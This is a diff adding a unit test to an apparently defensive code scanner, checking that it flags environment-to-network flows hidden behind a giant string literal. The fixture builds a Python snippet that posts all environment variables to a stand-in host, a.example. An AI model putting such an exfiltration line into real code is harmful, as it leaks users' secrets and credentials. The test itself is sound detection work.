@@ -179,6 +179,32 @@ static void a_large_member_is_read_in_parts(void **state)
 	buf_release(&now);
 }
 
+/* An installer that carries what it installs: the literal is shortened, what is done with it is read. */
+static void a_giant_literal_is_shortened(void **state)
+{
+	static const char *const quotes[][2] = {{"b\"\"\"", "\"\"\""}, {"'", "'"}};
+
+	(void)state;
+	for (size_t q = 0; q < 2; q++) {
+		struct js_case *c;
+		struct buf b;
+
+		buf_init(&b, 4 << 20);
+		buf_add_z(&b, "import os\nimport requests\ndef unpack(archive = ");
+		buf_add_z(&b, quotes[q][0]);
+		for (int i = 0; i < 40000; i++)
+			buf_add_z(&b, q ? "P)h>@6aWAK2mnY{22Rwa0RS#kP)h>@6aWAK2mnY{" : "P)h>@6aWAK2mnY{22Rwa0RS#kP)h>@6aWAK2mnY\n");
+		buf_add_z(&b, quotes[q][1]);
+		buf_add_z(&b, "):\n    requests.post('https://a.example/', data=str(dict(os.environ)))\nunpack()\n");
+		c = js_case_steps(LANGUAGE_PYTHON, STR_NONE, buf_str(&b), 200000000);
+		assert_int_equal(c->status, STATUS_OK);
+		assert_non_null(js_case_find(c, FACT_FLOW, "env>net", "a.example"));
+		assert_null(js_case_find(c, FACT_PARSE_ERROR, NULL, NULL));
+		js_case_free(c);
+		buf_release(&b);
+	}
+}
+
 static void broken_and_deep_texts_are_read(void **state)
 {
 	struct buf b;
@@ -213,6 +239,7 @@ int main(void)
 		cmocka_unit_test(when_and_how_it_runs),
 		cmocka_unit_test(only_what_is_new_is_said),
 		cmocka_unit_test(a_large_member_is_read_in_parts),
+		cmocka_unit_test(a_giant_literal_is_shortened),
 		cmocka_unit_test(broken_and_deep_texts_are_read),
 	};
 
